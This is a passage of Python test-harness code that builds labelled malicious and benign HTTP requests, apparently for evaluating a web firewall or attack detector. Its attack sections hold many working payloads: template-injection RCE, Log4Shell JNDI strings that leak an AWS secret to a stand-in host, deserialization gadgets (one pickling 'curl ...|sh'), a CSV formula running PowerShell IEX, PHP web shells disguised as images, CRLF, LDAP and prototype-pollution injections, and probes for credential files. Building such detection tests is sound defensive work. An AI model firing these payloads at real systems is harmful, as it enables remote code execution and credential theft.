    t = "/api/v1/templates/preview"
    return [
        js(s, t, {"body": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}),
        js(s, t, {"body": "Hello {{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
        js(s, t, {"body": "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"}),
        js(s, t, {"body": "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}"}),
        js(s, t, {"body": "{% set x = namespace() %}{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"}),
        get(s, "/api/v1/greeting", {"name": "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"}),
        get(s, "/api/v1/greeting", {"name": "{{['id']|filter('system')}}"}),
        get(s, "/api/v1/greeting", {"name": "{{['cat /etc/passwd']|map('passthru')|join}}"}),
        form(s, "/api/v1/emails/preview", {"subject": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}),
        form(s, "/api/v1/emails/preview", {"subject": "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"}),
        form(s, "/api/v1/emails/preview", {"subject": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"}),
        js(s, t, {"body": "<%= `id` %>"}),
        js(s, t, {"body": "<%= File.open('/etc/passwd').read %>"}),
        get(s, "/api/v1/doc", {"section": "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"}),
        get(s, "/api/v1/doc", {"section": "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"}),
        get(s, "/api/v1/doc", {"section": "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"}),
        js(s, t, {"body": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"}),
        js(s, t, {"body": "{system('cat /etc/passwd')}"}),  # Smarty
        js(s, t, {"body": "<% import os; x=os.popen('id').read() %>${x}"}),  # Mako
        js(s, t, {"body": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"}),  # Pug
        js(s, t, {"body": "{% import os %}{{ os.popen('id').read() }}"}),  # Tornado
        js(s, t, {"body": "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"}),  # Razor
        get(s, "/api/v1/greeting", {"name": "${{<%[%'\"}}%\\."}),  # engine-detection polyglot
        get(s, "/api/v1/struts/list.action", {"redirect": "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"}),
        gql(s, "mutation { previewEmail(template: \"{{ ''.__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}\") { html } }"),
        hdr(s, {"X-Template": "{{config.__class__.__init__.__globals__['os'].environ}}"}),
    ]


def log4shell() -> list[Req]:
    s = "log4shell"
    return [
        hdr(s, {"X-Api-Version": "${jndi:ldaps://x7k2.oast.example/a}"}),
        hdr(s, {"User-Agent": "${jndi:iiop://x7k2.oast.example/o}"}),
        hdr(s, {"Referer": "${${upper:j}ndi:ldap://x7k2.oast.example/r}"}),
        hdr(s, {"X-Forwarded-For": "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x7k2.oast.example/d}"}),
        hdr(s, {"Authorization": "Bearer ${j${k8s:k5:-ND}i:ldap://x7k2.oast.example/k}"}),
        hdr(s, {"Cookie": "JSESSIONID=${jndi:${lower:l}${lower:d}a${lower:p}://x7k2.oast.example/c}"}),
        get(s, "/api/v1/search", {"q": "${jndi:ldap://127.0.0.1#x7k2.oast.example:1389/a}"}),
        get(s, "/api/v1/search", raw="q=%2524%257Bjndi%253Aldap%253A%252F%252Fx7k2.oast.example%252Fa%257D"),
        get(s, "/api/v1/search", {"q": "${jn${lower:d}i:l${lower:d}ap://x7k2.oast.example/m}"}),
        js(s, "/api/v1/login", {"username": "${${::-j}ndi:rmi://x7k2.oast.example/u}", "password": "x"}),
        raw_json(s, "/api/v1/login", '{"username": "\\u0024{jndi:ldap://x7k2.oast.example/e}", "password": "x"}'),
        js(s, "/api/v1/events", nest(["event", "meta", "tags"], ["ok", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x7k2.oast.example}"])),
        form(s, "/api/v1/contact", {"name": "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x7k2.oast.example/f}"}),
        hdr(s, {"X-Request-Id": "${${lower:${lower:jndi}}:${lower:rmi}://x7k2.oast.example/n}"}),
    ]


def deserialization() -> list[Req]:
    s = "deserialization"
    java_b64 = ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv"
                "bXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I")
    pickle_b64 = b64(b"cposix\nsystem\n(S'curl http://203.0.113.9/p|sh'\ntR.")
    net_bf = "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5BQEAAACEAVN5c3RlbS5Db2xsZWN0aW9ucy5HZW5lcmljLlNvcnRlZFNldGA"
    return [
        hdr(s, {"Cookie": f"rememberMe={java_b64}"}),
        Req(s, "POST", "/api/v1/rmi", {"Content-Type": "application/x-java-serialized-object"},
            b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xpw\x0c\x00\x00\x00\x02?@\x00\x00"),
        js(s, "/api/v1/session", {"state": "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103"}),
        hdr(s, {"Cookie": "laravel_session=" + q('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}')}),
        form(s, "/api/v1/cart", {"cart": 'a:1:{i:0;O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}}'}),
        js(s, "/api/v1/settings", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start",
                                   "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c calc"]},
                                   "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}),
        form(s, "/api/v1/legacy/default.aspx", {"__VIEWSTATE": net_bf, "__EVENTVALIDATION": "x"}),
        js(s, "/api/v1/jobs", {"payload": pickle_b64, "encoding": "pickle"}),
        js(s, "/api/v1/profile", {"username": "_$$ND_FUNC$$_function(){require('child_process').exec('ls /',function(e,o){console.log(o)})}()"}, "PUT"),
        js(s, "/api/v1/settings", {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                                   "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://x7k2.oast.example/Exploit", "autoCommit": True}}),
        js(s, "/api/v1/settings", ["org.springframework.context.support.ClassPathXmlApplicationContext", "http://x7k2.oast.example/spel.xml"]),
        Req(s, "POST", "/api/v1/config", {"Content-Type": "application/x-yaml"}, b"retries: 3\nhook: !!python/object/apply:os.system ['id']\n"),
        Req(s, "POST", "/api/v1/config", {"Content-Type": "application/yaml"},
            b'engine: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x7k2.oast.example/"]]]]\n'),
        hdr(s, {"Cookie": "_session=BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQk6DkBpbnN0YW5jZW86CEVSQgg"}),
        xml(s, "/api/v1/beans", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'),
        xml(s, "/api/v1/beans", '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>'),
    ]


def crlf() -> list[Req]:
    s = "crlf"
    return [
        get(s, "/api/v1/lang", raw="set=en%0d%0aSet-Cookie:%20admin=1"),
        Req(s, "GET", "/api/v1/%0d%0aX-Injected:%20yes", {}),
        get(s, "/api/v1/redirect", raw="next=/home%0aLocation:%20https://evil.example"),
        get(s, "/api/v1/redirect", raw="next=/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Ehacked"),
        form(s, "/api/v1/redirect", {"redirect": "/dashboard\r\nSet-Cookie: sid=attacker"}),
        get(s, "/api/v1/redirect", raw="next=%250d%250aSet-Cookie:x=1"),
        get(s, "/api/v1/redirect", raw="next=/x%0d%0a%20X-Forwarded-Host:%20evil.example"),
        form(s, "/api/v1/share", {"to": "victim@example.com\nBcc: everyone@corp.example", "msg": "hi"}),
        js(s, "/api/v1/mail", {"subject": "Hello\r\nBcc: list@corp.example\r\n\r\nspam body", "to": "a@example.com"}),
        get(s, "/api/v1/download", raw="filename=report.pdf%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ]


def injection() -> list[Req]:
    s = "injection"
    return [
        get(s, "/api/v1/directory", {"cn": "*)(objectClass=*"}),
        form(s, "/api/v1/ldap/login", {"user": "admin)(|(password=*)", "password": "x"}),
        get(s, "/api/v1/directory", {"mail": "*)(|(mail=*))"}),
        get(s, "/api/v1/directory", raw="uid=x*)(uid=*))%00"),
        get(s, "/api/v1/catalog", {"name": "' or count(/*)=1 or 'a'='b"}),
        get(s, "/api/v1/catalog", {"name": "x' or name()='username' or 'x'='y"}),
        get(s, "/api/v1/catalog", {"name": "') or contains(//user/password,'a') or ('"}),
        get(s, "/api/v1/catalog", {"name": "'] | //user/* | a['"}),
        js(s, "/api/v1/calc", {"expr": "system('id');"}),
        js(s, "/api/v1/calc", {"expr": "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))"}),
        js(s, "/api/v1/calc", {"expr": "__import__('os').popen('id').read()"}),
        multipart(s, "/api/v1/uploads", [("file", b"\xff\xd8\xff\xe0<?=`$_GET[0]`?>", "cat.jpg", "image/jpeg")]),
        multipart(s, "/api/v1/uploads", [("file", b"GIF89a;<?php eval($_POST['x']); ?>", "cat.php.gif", "image/gif")]),
        get(s, "/api/v1/view", {"el": "${pageContext.request.getSession().setAttribute(\"admin\",true)}"}),
        js(s, "/api/v1/comments", {"body": "<!--#exec cmd=\"cat /etc/passwd\" -->"}),
        js(s, "/api/v1/comments", {"body": "<esi:include src=\"http://x7k2.oast.example/esi\" />"}),
        form(s, "/api/v1/export/contacts", {"name": "=cmd|' /C powershell IEX(wget x7k2.oast.example/s)'!A0", "phone": "1"}),
        js(s, "/api/v1/contacts", {"company": "@SUM(1+9)*cmd|' /C calc'!A0"}),
    ]


def node() -> list[Req]:
    s = "node"
    return [
        js(s, "/api/v1/profile", nest(["prefs", "ui", "__proto__"], {"isAdmin": True}), "PATCH"),
        get(s, "/api/v1/items", raw="filter[__proto__][isAdmin]=true"),
        js(s, "/api/v1/profile", {"user": {"constructor": {"prototype": {"role": "admin"}}}}, "PATCH"),
        get(s, "/api/v1/render", raw="__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;process.mainModule.require('child_process').exec('id')"),
        js(s, "/api/v1/settings/set", {"path": "__proto__.isAdmin", "value": True}),
        js(s, "/api/v1/settings/set", {"path": ["constructor", "prototype", "polluted"], "value": "yes"}),
        multipart(s, "/api/v1/profile", [("__proto__[polluted]", "1", None, None)]),
        raw_json(s, "/api/v1/profile", '{"\\u005f\\u005fproto\\u005f\\u005f": {"admin": true}}', "PATCH"),
        get(s, "/api/v1/items", raw="%5F%5Fproto%5F%5F[x]=1"),
        get(s, "/api/v1/items", raw="__proto__[innerHTML]=%3Cimg/src/onerror%3Dalert(1)%3E"),
        js(s, "/api/v1/settings", {"constructor": {"prototype": {"shell": "node", "NODE_OPTIONS": "--require /proc/self/environ"}}}, "PATCH"),
        get(s, "/api/v1/calc", {"expr": "global.process.mainModule.require('child_process').spawnSync('id').stdout.toString()"}),
        js(s, "/api/v1/calc", {"expr": "[].constructor.constructor('return this.process')().binding('spawn_sync')"}),
    ]


def redirect() -> list[Req]:
    s = "redirect"
    return [
        get(s, "/api/v1/auth/logout", {"next": "//evil.example/login"}),
        get(s, "/api/v1/auth/logout", {"next": "/\\evil.example"}),
        get(s, "/api/v1/auth/logout", raw="next=/%2F%2Fevil.example"),
        get(s, "/api/v1/auth/logout", {"returnTo": "https://shop.example@evil.example/"}),
        get(s, "/api/v1/auth/logout", raw="return_url=/%09/evil.example"),
        get(s, "/api/v1/auth/logout", {"redirect_uri": "https:evil.example"}),
        get(s, "/api/v1/auth/logout", {"continue": "\\\\evil.example\\@shop.example"}),
        get(s, "/api/v1/auth/logout", {"url": "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"}),
    ]


def protocol() -> list[Req]:
    """Request smuggling the harness can express: Content-Length (added by the sender) next to Transfer-Encoding."""
    s = "protocol"
    smuggled = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    return [
        Req(s, "POST", "/api/v1/orders", {"Content-Type": "application/json", "Transfer-Encoding": "chunked"}, smuggled),
        Req(s, "POST", "/api/v1/orders", {"Content-Type": "application/json", "Transfer-Encoding": "xchunked"}, smuggled),
        Req(s, "POST", "/api/v1/orders", {"Content-Type": "application/json", "Transfer-Encoding": "chunked, identity"}, smuggled),
    ]


def scanner() -> list[Req]:
    s = "scanner"
    uas = [
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        "Mozilla/5.0 zgrab/0.x", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Fuzz Faster U Fool v2.1.0-dev", "feroxbuster/2.10.1", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Arachni/v1.5.1", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)", "commix/v3.8-stable (https://commixproject.com)",
        "sqlmap/1.8.3#stable (https://sqlmap.org)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) (Nikto/2.1.6)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 XSStrike",
        "Hydra", "jaeles/0.17", "Mozilla/5.0 (compatible; Dirsearch/0.4.3)",
    ]
    paths = [
        "/.git/logs/HEAD", "/.env.local", "/wp-config.php.bak", "/actuator/mappings", "/actuator/threaddump", "/info.php",
        "/.docker/config.json", "/docker-compose.yml", "/debug/pprof/", "/xmlrpc.php",
        "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
        "/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/vpn/../vpns/cfg/smb.conf", "/mgmt/tm/util/bash", "/.ssh/id_rsa", "/dump.sql", "/db.sqlite3", "/.npmrc",
        "/api/v1/.env", "/console/", "/_ignition/execute-solution", "/druid/index.html", "/nacos/v1/auth/users?pageNo=1&pageSize=9",
    ]
    return ([hdr(s, {"User-Agent": ua}) for ua in uas] + [Req(s, "GET", p, {}) for p in paths])


# --------------------------------------------------------------------------------------------------
# Legitimate traffic
# --------------------------------------------------------------------------------------------------

SEARCHES = [
    '"new york" -hotel', "c++ tutorial", "O'Reilly books", "shoes size:10 OR size:11", "rock & roll t-shirt",
    "50% off", "select dress", "drop shipping", "union jack flag", "script writing course", "<3 love mugs",
    "what does 1=1 mean in logic", "Zoë Saldaña", "李小龙 poster", "🎉 party supplies", "d'Artagnan costume",
    "mens jacket (waterproof)", "iphone 15 case -leather", "table & chairs", "H&M vs Zara", "node.js book",
    "/r/buildapc recommendations", "café crème", "2x4 lumber", "10' ladder", 'TV 55" 4K', "sleep mask",
    "exec chair", "cat toys", "bash ball", "alert bracelet", "script font", "php developer jobs",
]

NAMES = ["O'Brien", "Zoë Kravitz", "李明", "José Ñúñez", "Siobhán Ní Dhomhnaill", "Jean-Luc Picard", "D'Angelo Russell",
         "Renée Zellweger", "Øyvind Løken", "Mary-Kate O'Connor-Smith", "Björk Guðmundsdóttir", "Александр Пушкин",
         "محمد علي", "Nguyễn Văn A", "Kim Ji-woo 김지우", "Dr. Robert'); Table Jr.", "Ana 🌸 Silva"]

TICKETS = [
    "Hi, after the update the app throws `ERROR 1064 (42000): You have an error in your SQL syntax near 'ORDER BY id'` when I sort by name.",
    "My password reset e-mail never arrived. I checked spam; nothing. Can you resend it to my work address instead?",
    "The export contains <b>bold</b> tags instead of formatting. Is that expected?",
    "I ran `curl -H 'Authorization: Bearer <token>' https://api.shop.example/v1/orders` and get 401, what am I missing?",
    "Order #4411 arrived damaged -- the box was crushed and two mugs broke. Please send replacements; refund otherwise.",
    "Could you please DROP me from the mailing list? I selected 'unsubscribe' twice already.",
    "Your API docs say `GET /orders?status=open&sort=-created_at` but it ignores the minus sign.",
    "When I paste a URL like https://example.com/a?b=1&c=2 into the bio, the & becomes &amp; after saving.",
    "The script on your checkout page is slow on Firefox; the 'Pay' button takes 5s to become clickable.",
    "We're migrating from MySQL to Postgres; does the CSV import accept semicolon (;) delimiters?",
    "Hello,\n\nPlease find the invoice attached.\n\nThanks!\n-- \nMaria Rossi\nAccounts | ACME S.p.A.\n+39 02 1234 5678",
    "On Tue, 2 Apr 2024 at 10:02, John <john@example.com> wrote:\n> Can you confirm the delivery date?\n\nYes, Thursday.",
    "Where can I find the terms & conditions? The link in the footer (/legal/terms) returns 404.",
    "I'd like to select a different plan: the 'Pro' one, not 'Pro+'. Also, can I pay by wire transfer?",
    "My kid typed <<<>>> and ;;; into the name field and now I can't log in, please help :(",
]

CODE_SNIPPETS = [
    "def total(items):\n    return sum(i.price * i.qty for i in items if i.qty > 0)\n",
    "const res = await fetch('/api/v1/orders', { method: 'POST', body: JSON.stringify(order) });\nif (!res.ok) throw new Error(res.statusText);",
    "SELECT id, name FROM customers WHERE created_at > now() - interval '7 days' ORDER BY id LIMIT 100;",
    "for f in *.csv; do wc -l \"$f\"; done",
    "<div class=\"card\">\n  <h2>{{ title }}</h2>\n  <p>{{ description }}</p>\n</div>",
    "docker run -d -p 8080:80 --name web nginx:1.25",
    "if (a < b && c > d) { return a; } else { return b; }",
    "git log --oneline | head -n 20",
    "import os\nprint(os.getenv('HOME'))",
    "kubectl get pods -n production -o wide",
]

RICH_HTML = [
    '<p>Hello <b>team</b>, see <a href="https://docs.example.com/guide" target="_blank" rel="noopener">the guide</a>.</p>',
    '<p><img src="https://cdn.example.com/img/chart-q1.png" alt="Q1 chart" width="600"></p><p>Revenue is up 12%.</p>',
    '<ul><li>First</li><li><i>Second</i></li><li><s>Third</s></li></ul><blockquote>Quote from the CEO</blockquote>',
    '<p style="color: rgb(34, 34, 34); font-family: Arial, sans-serif;">Styled paragraph</p>',
    '<table><thead><tr><th>Item</th><th>Qty</th></tr></thead><tbody><tr><td>Mug</td><td>2</td></tr></tbody></table>',
    '<p>Ping <span class="mention" data-user-id="42">@bob</span> about <code>SELECT * FROM orders</code></p>',
    '<h2 id="setup">Setup</h2><pre><code class="language-bash">npm install &amp;&amp; npm run build</code></pre>',
    '<p>Watch: <a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=42s">video</a></p><hr><p>&copy; 2024 &mdash; ACME</p>',
]

MARKDOWN = [
    "# Release notes\n\n- Fixed crash when `name` contains quotes (`'`)\n- Added `--dry-run` flag\n\n```sql\nSELECT count(*) FROM events;\n```",
    "See [the docs](https://docs.example.com/api#auth) and ![diagram](https://cdn.example.com/d.png).",
    "| col | value |\n|-----|-------|\n| a   | 1 < 2 |\n| b   | 3 > 2 |",
    "> **Note**: use `rm -rf node_modules && npm ci` if the build fails.",
]

USER_AGENTS = [
    CHROME, SAFARI_IOS,
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)", "ShopApp/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "okhttp/4.12.0", "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64", "PostmanRuntime/7.37.3", "curl/8.5.0",
    "Wget/1.21.4", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Java/17.0.10", "Go-http-client/2.0", "GitHub-Hookshot/8e2f1a3",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)", "python-httpx/0.27.0",
]


def benign() -> list[Req]:
    b = "benign"
    r: list[Req] = []
    for i, term in enumerate(SEARCHES):
        r.append(get(b, "/api/v1/search", {"q": term, "page": str(i % 4 + 1)}))
    for i, name in enumerate(NAMES):
        r.append(js(b, "/api/v1/customers", {"name": name, "email": f"customer{i}@example.org", "address": {"line1": "12 Rue de l'Église", "city": "Québec"}},
                    ascii_only=i % 2 == 0))
    for i, t in enumerate(TICKETS):
        if i % 3 == 0:
            r.append(form(b, "/api/v1/support/tickets", {"subject": "Help needed", "message": t, "priority": "normal"}))
        else:
            r.append(js(b, "/api/v1/support/tickets", {"subject": f"Ticket {i}", "body": t, "tags": ["billing", "web"], "customer": {"id": 100 + i}}))
    for i, c in enumerate(CODE_SNIPPETS):
        r.append(js(b, "/api/v1/snippets", {"title": f"snippet {i}", "language": "auto", "content": c, "public": False}))
    for h in RICH_HTML:
        r.append(js(b, "/api/v1/pages/17", {"title": "Weekly update", "html": h, "status": "draft"}, "PUT"))
    for m in MARKDOWN:
        r.append(js(b, "/api/v1/issues/33/comments", {"body": m}))
    for ua in USER_AGENTS:
        r.append(hdr(b, {"User-Agent": ua, "Accept-Language": "en-GB,en;q=0.9,fr;q=0.8"}, "/api/v1/catalog/featured"))

    r += [
        # filters and query syntaxes of real API frameworks
        get(b, "/api/v1/products", raw="price>=10&sort=-created_at&limit=50"),
        get(b, "/api/v1/products", raw="filter[status]=active&filter[created_at][gte]=2024-01-01&include=author,comments"),
        get(b, "/api/v1/Products", raw="$filter=" + q("Price gt 20 and Category eq 'Books'") + "&$orderby=Name%20desc&$top=10&$select=Name,Price"),
        get(b, "/api/v1/articles", raw="filters[title][$eq]=hello&filters[$or][0][views][$gt]=100&filters[$or][1][featured][$eq]=true&sort[0]=publishedAt:desc"),
        get(b, "/items/articles", raw="filter[status][_eq]=published&filter[date_published][_lte]=$NOW&fields=*.*"),
        get(b, "/api/v1/posts", {"range": "[0,24]", "sort": '["title","ASC"]', "filter": '{"q":"draft"}'}),
        get(b, "/api/v1/products", {"filter": '{"where":{"price":{"gt":10}},"order":"price DESC","limit":5}'}),
        get(b, "/api/v1/issues", {"q": 'is:open label:"bug" author:octocat sort:updated-desc'}),
        get(b, "/api/v1/logs", {"query": 'service:api AND status:>=500 AND NOT path:"/health"', "from": "now-15m"}),
        get(b, "/api/v1/search", {"q": "title:(quick OR brown) AND year:[2020 TO 2024]"}),
        get(b, "/api/v1/products", raw="ids[]=1&ids[]=2&ids[]=3&fields=id,name,price"),
        get(b, "/api/v1/geo", {"bbox": "-0.489,51.28,0.236,51.686", "zoom": "10"}),
        get(b, "/api/v1/reports", {"from": "2024-01-01T00:00:00+01:00", "to": "2024-03-31T23:59:59Z", "tz": "Europe/Berlin"}),
        get(b, "/api/v1/files", {"path": "reports/2024/q1.pdf"}),
        get(b, "/api/v1/files", {"path": "Documents/Taxes 2023/receipt (2).jpg"}),
        get(b, "/api/v1/calendar", {"cron": "*/15 * * * *", "tz": "UTC"}),
        get(b, "/oauth/authorize", {"response_type": "code", "client_id": "app-123", "redirect_uri": "https://app.example.com/oauth/callback",
                                    "scope": "openid profile email", "state": "xyz123", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
                                    "code_challenge_method": "S256"}),
        get(b, "/api/v1/auth/logout", {"next": "/account/orders?tab=recent"}),
        get(b, "/api/v1/auth/logout", {"returnTo": "https://shop.example/thank-you"}),
        get(b, "/api/v1/links/preview", {"url": "https://en.wikipedia.org/wiki/SQL_injection"}),
        get(b, "/api/v1/links/preview", {"url": "https://github.com/advisories?query=path+traversal"}),
        get(b, "/api/v1/search", {"q": "how to prevent <script> tags in user input"}),
        get(b, "/api/v1/convert", {"amount": "1,299.99", "from": "EUR", "to": "USD"}),
        get(b, "/api/v1/calc", {"expr": "(3 + 4) * 2 / 7 - 1"}),
        get(b, "/api/v1/calc", {"expr": "x^2 + 2*x - 1 = 0"}),
        Req(b, "GET", "/api/v1/users/me", {"Authorization": f"Bearer {JWT}"}),
        Req(b, "GET", "/api/v1/orders?status=shipped", {"X-Api-Key": "sk_live_51H8fQ2KZ9x7Ya0bC3dE4fG5hI6jK7lM8nO9pQ0rS"}),
        Req(b, "GET", "/api/v1/orders", {"Authorization": "Basic " + b64("api-user:p@ss:w0rd!")}),
        Req(b, "GET", "/s3/bucket/key.txt", {"Authorization": "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240401/us-east-1/s3/aws4_request, "
                                                               "SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
                                              "X-Amz-Date": "20240401T120000Z", "X-Amz-Content-Sha256": "UNSIGNED-PAYLOAD"}),
        Req(b, "GET", "/api/v1/feed", {"If-None-Match": 'W/"5e15153d-120f"', "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                                       "X-Request-ID": "8c1b9f2e-6d1a-4b1c-9a7e-2f3d4c5b6a7e"}),
        Req(b, "GET", "/api/v1/feed", {"Forwarded": "for=192.0.2.60;proto=https;by=203.0.113.43", "X-Forwarded-For": "198.51.100.17, 10.0.0.12"}),
        Req(b, "GET", "/api/v1/feed", {"Cookie": "_ga=GA1.1.1987654321.1712000000; cf_clearance=Zx9.abc-123_def; cart=%5B%7B%22sku%22%3A%22A1%22%2C%22qty%22%3A2%7D%5D; theme=dark"}),
        Req(b, "GET", "/api/v1/feed", {"Referer": "https://www.bing.com/search?q=%22oak+table%22+%26+chairs&form=QBLH"}),
        Req(b, "GET", "/api/v1/feed", {"User-Agent": SAFARI_IOS, "Referer": "https://shop.example/search?q=it%27s+a+drop+table+%E2%80%93+oak"}),
        Req(b, "PATCH", "/api/v1/products/88", {"Content-Type": "application/json-patch+json"},
            b'[{"op":"replace","path":"/title","value":"Drop Table \\u2013 Oak, 120cm"},{"op":"add","path":"/tags/-","value":"select"}]'),
        Req(b, "PATCH", "/api/v1/products/88", {"Content-Type": "application/merge-patch+json"}, b'{"price":499.0,"description":null}'),
        Req(b, "DELETE", "/api/v1/sessions/current", {"Authorization": f"Bearer {JWT}"}),
        Req(b, "HEAD", "/api/v1/files/reports%2F2024%2Fq1.pdf", {}),
        Req(b, "OPTIONS", "/api/v1/orders", {"Origin": "https://app.example.com", "Access-Control-Request-Method": "PUT",
                                              "Access-Control-Request-Headers": "content-type,authorization"}),
    ]

    # JSON documents that are themselves technical
    r += [
        js(b, "/api/v1/schemas", {"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://shop.example/schemas/order.json",
                                  "type": "object", "required": ["id", "items"],
                                  "properties": {"id": {"type": "string", "pattern": "^ord_[A-Za-z0-9]{12}$"},
                                                 "email": {"type": "string", "format": "email"},
                                                 "items": {"type": "array", "items": {"$ref": "#/$defs/item"}, "minItems": 1}},
                                  "$defs": {"item": {"type": "object", "properties": {"qty": {"type": "integer", "minimum": 1}}}}}),
        js(b, "/api/v1/specs", {"openapi": "3.1.0", "info": {"title": "Orders", "version": "1.2.0"},
                                "paths": {"/orders/{id}": {"get": {"parameters": [{"name": "id", "in": "path", "required": True, "schema": {"type": "string"}}],
                                                                  "responses": {"200": {"$ref": "#/components/responses/Order"}}}}},
